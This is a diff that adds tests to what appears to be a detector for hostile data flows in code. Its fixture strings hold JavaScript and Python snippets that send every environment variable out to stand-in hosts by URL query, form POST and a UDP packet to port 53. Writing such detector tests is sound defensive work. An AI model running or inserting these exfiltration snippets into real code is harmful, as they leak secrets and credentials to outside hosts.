@@ -188,3 +188,23 @@ def test_so_it_is_where_a_file_is_opened_first() -> None:
     assert {"file.write .git/hooks/pre-commit", "code.flow network > execution"} <= {
         b.rpartition(" @ ")[0] for b in found if b.endswith(":2 (import)")
     }
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "const p = new URLSearchParams(); for (const [k, v] of Object.entries(process.env)) p.append(k, v)\nfetch('https://x.example/?' + p)",
+        "const f = new FormData(); f.set('e', new Blob([JSON.stringify(process.env)]))\nfetch('https://x.example', { method: 'POST', body: f })",
+    ],
+)
+def test_what_is_put_into_a_form_is_sent_with_it(source: str) -> None:
+    assert "code.flow env:* > network" in told(source, "index.js")
+
+
+def test_pieces_of_a_text_come_from_where_it_came_from() -> None:
+    source = (
+        "import os, socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nout = b''\n"
+        "for part in (repr(dict(os.environ)) + '.x.example').split('.'):\n    out += part.encode()\n"
+        "s.sendto(out, ('192.0.2.53', 53))\n"
+    )
+    assert "code.flow env:* > network" in told(source, "pkg/__init__.py")
